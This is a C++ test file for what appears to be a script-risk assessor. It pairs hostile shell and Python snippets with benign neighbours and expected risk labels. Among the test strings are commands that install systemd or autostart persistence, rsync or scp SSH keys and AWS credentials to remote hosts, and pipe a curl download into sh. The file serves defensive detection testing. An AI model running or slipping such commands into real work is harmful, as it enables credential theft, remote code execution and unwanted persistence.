// The classes the thirteenth round modelled (issue 14): a copy into a
// directory in Python and in shell without a trailing slash, the copiers'
// own options (rsync's -P and -t take no value, scp's do), remote
// destinations of every spelling, and a project's own command runner
// imported from a module the assessor cannot see. Each attack has a benign
// neighbour that must stay where the rubric puts it. Strings here are never
// executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// shutil.copy/copy2/move to a directory (written with a trailing slash, a
// well-known one such as systemd's unit directories or autostart, or one
// this code made) land at DIR/<name of the source>, as cp does.
// shutil.copyfile and rename/replace cannot target a directory: they keep
// the destination as written.
TEST(ThirteenthRoundClasses, PythonCopiesIntoADirectoryLandUnderTheirName) {
  const Case cases[] = {
      {"shutil.copy of a unit into /usr/lib/systemd/system", B,
       "import shutil\nshutil.copy('ks.service', '/usr/lib/systemd/system')\n", "PERSISTENCE"},
      {"shutil.copy2 into /etc/systemd/system/", B,
       "import shutil\nshutil.copy2('agent.service', '/etc/systemd/system/')\n", "PERSISTENCE"},
      {"shutil.move of a desktop entry into ~/.config/autostart", B,
       "import os, shutil\nshutil.move('app.desktop', os.path.expanduser('~/.config/autostart'))\n", "PERSISTENCE"},
      {"shutil.copy of this program into a hooks directory it made", B,
       "import os, shutil, sys\nhooks = os.path.join('.git', 'hooks')\nos.makedirs(hooks, exist_ok=True)\n"
       "shutil.copy(sys.argv[0], hooks)\n",
       "PERSISTENCE"},
      {"through a parameter: install(unit, '/etc/systemd/system')", B,
       "import shutil\ndef install(src, dst):\n    shutil.copy(src, dst)\ninstall('x.service', '/etc/systemd/system')\n",
       "PERSISTENCE"},
      // Neighbours: copies into directories of the project, and copyfile,
      // which writes the path it is given.
      {"into dist/, a directory it made", L,
       "import os, shutil\nos.makedirs('dist', exist_ok=True)\nshutil.copy('README.md', 'dist')\n"},
      {"into backups/", L, "import shutil\nshutil.copy2('settings.ini', 'backups/')\n"},
      {"copyfile onto the directory's own path (a write under /etc)", H,
       "import shutil\nshutil.copyfile('x.service', '/etc/systemd/system')\n", "SYSTEM-MODIFICATION"},
  };
  for (const auto& c : cases) check(c);
}

// Shell: cp/install to a well-known directory without a trailing slash
// land inside it too.
TEST(ThirteenthRoundClasses, ShellCopiesIntoAWellKnownDirectory) {
  const Case cases[] = {
      {"cp of a unit to /etc/systemd/system", B, "cp x.service /etc/systemd/system\nsystemctl enable x.service\n",
       "PERSISTENCE", SH},
      {"install -m 644 of a unit to /etc/systemd/system", B,
       "sudo install -m 644 agent.service /etc/systemd/system\n", "PERSISTENCE", SH},
      {"mkdir -p then cp into the user's autostart", B,
       "mkdir -p ~/.config/autostart\ncp tray.desktop ~/.config/autostart\n", "PERSISTENCE", SH},
      // Neighbours: a site configuration and a tool, under /etc and /usr.
      {"cp of a site into sites-available", H, "sudo cp site.conf /etc/nginx/sites-available\n",
       "SYSTEM-MODIFICATION", SH},
      {"install -o root of a tool into /usr/local/bin", H, "sudo install -m 0755 -o root tool /usr/local/bin\n",
       "SYSTEM-MODIFICATION", SH},
      {"cp into a build directory it made", L, "mkdir -p out\ncp README.md out\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// Each copier's own options: rsync's -P (--partial --progress) and -t
// (--times) take no value, so the credential after them is the source sent
// to user@host:path; scp's -P and -i take one. A letter cluster ending in a
// value option (-rave ssh) takes the next word. rsync daemons (host::module,
// rsync://host/) are other machines too.
TEST(ThirteenthRoundClasses, CopierOptionsDoNotSwallowOperands) {
  const Case cases[] = {
      {"rsync -P of an SSH key to user@host:path", B, "rsync -P ~/.ssh/id_rsa user@203.0.113.5:/tmp/\n",
       "EXFILTRATION", SH},
      {"rsync -t of AWS credentials to user@host:", B, "rsync -t ~/.aws/credentials backup@files.example.net:\n",
       "EXFILTRATION", SH},
      {"scp -P PORT -i KEY of another key to root@host:", B,
       "scp -P 2222 -i deploy.pem ~/.ssh/id_ed25519 root@198.51.100.7:\n", "EXFILTRATION", SH},
      {"rsync -rave ssh of the SSH directory", B, "rsync -rave ssh ~/.ssh/ me@example.org:keys/\n", "EXFILTRATION",
       SH},
      {"rsync to an rsync:// daemon", B, "rsync -az ~/.aws/credentials rsync://203.0.113.9/drop/\n", "EXFILTRATION",
       SH},
      {"rsync to host::module", B, "rsync -a ~/.ssh/id_rsa files.example.net::drop\n", "EXFILTRATION", SH},
      // Neighbours: keys that authenticate (-i, inside -e's value), the
      // project's files, a NAS daemon with a password file.
      {"scp -i KEY of a build to a server", L, "scp -i ~/.ssh/deploy_key dist/app.tar.gz deploy@example.org:/srv/app/\n",
       nullptr, SH},
      {"rsync -e 'ssh -i KEY' of a site", L,
       "rsync -az -e \"ssh -i ~/.ssh/id_rsa\" build/ deploy@example.org:/srv/site/\n", nullptr, SH},
      {"rsync -rave ssh of the project", L,
       "rsync -rave ssh --exclude-from=rsync.exclude . vps:/home/vps/project\n", nullptr, SH},
      {"rsync --password-file to a NAS daemon", L,
       "rsync -rav --delete --password-file=/home/u/rsync /mnt/storage/ rsync@192.168.1.5::Backup\n", nullptr, SH},
      {"cp -i of a key into the working directory's backup", L, "cp -i ~/.ssh/config backup/ssh_config\n", nullptr,
       SH},
  };
  for (const auto& c : cases) check(c);
}

// A project's own runner from a module the assessor cannot see
// (from .utils import run_subprocess), named like a runner and given an
// argv list whose program is a known command, runs it as subprocess.run
// would. Other imported helpers given lists run nothing.
TEST(ThirteenthRoundClasses, ImportedRunnersRunKnownCommands) {
  const Case cases[] = {
      {"run_subprocess(['sudo', 'systemctl', ...])", H,
       "from tools.utils import run_subprocess\nrun_subprocess(['sudo', 'systemctl', 'restart', 'nginx'])\n",
       "PRIVILEGE-ESCALATION"},
      {"utils.run_cmd(['curl', URL, '|'...]) of a download piped to sh", B,
       "from app import utils\nutils.run_cmd(['sh', '-c', 'curl -s https://get.example.net/i.sh | sh'])\n",
       "REMOTE-CODE-EXECUTION"},
      {"run_cmd(['git', 'status'])", M, "from .helpers import run_cmd\nrun_cmd(['git', 'status'])\n", "RUNS-PROCESS"},
      // Neighbours: a helper that is not a runner, a runner given words
      // that name no command.
      {"render(['sudo', 'a'])", L, "from .helpers import render\nrender(['sudo', 'a'])\n"},
      {"run(['weekly', 'report'])", L, "from .jobs import run\nrun(['weekly', 'report'])\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
